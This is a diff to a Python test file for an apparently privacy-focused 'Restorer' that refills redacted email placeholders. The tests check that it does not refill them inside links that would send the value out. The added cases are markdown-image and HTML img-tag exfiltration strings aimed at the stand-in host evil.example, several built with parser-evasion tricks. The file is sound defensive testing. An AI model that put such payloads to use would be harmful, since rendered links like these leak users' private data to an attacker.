@@ -155,6 +155,14 @@ class TestExfiltration:
             "//evil.example/[EMAIL_ADDRESS_1]",
             "www.evil.example/[EMAIL_ADDRESS_1]",
             "[1]: http://evil.example/[EMAIL_ADDRESS_1]",
+            '![x](https://evil.example/?q="[EMAIL_ADDRESS_1])',
+            "![x](https://evil.example/?q=\u00a0[EMAIL_ADDRESS_1])",
+            "![x](<https://evil.example/?q= [EMAIL_ADDRESS_1]>)",
+            '![x](/\\evil.example/"[EMAIL_ADDRESS_1])',
+            '[1]: http://evil.example/"[EMAIL_ADDRESS_1]',
+            "https:evil.example/[EMAIL_ADDRESS_1]",
+            '<img alt=">" src="https:evil.example/" title="[EMAIL_ADDRESS_1]">',
+            "<img alt='<b>' src='/x?[EMAIL_ADDRESS_1]'>",
             "https://evil.example/%5BEMAIL_ADDRESS_1%5D",
             "x" * 600 + "[EMAIL_ADDRESS_1]",
         ],
@@ -164,6 +172,21 @@ class TestExfiltration:
         What shows the answer would fetch the address, and the value with it.
         """
         assert Restorer(TABLE).text(text) == text
+
+    @pytest.mark.parametrize(
+        "before",
+        [
+            "<b>Hello</b> ", '<a href="https://x.example">home</a> ', "[x](https://x.example) and ",
+            "[1]: ", "a = 1 < 2; mail ", '"https://x.example", "',
+        ],
+    )  # fmt: skip
+    def test_beside_an_address_it_is_restored(self, before: str) -> None:
+        """
+        What ended before is no reason to leave a person without their words.
+        """
+        said = Restorer(TABLE).text(f"{before}[EMAIL_ADDRESS_1]")
+
+        assert said == f"{before}jane@acme.example"
 
     def test_after_an_address_it_goes_on(self) -> None:
         """
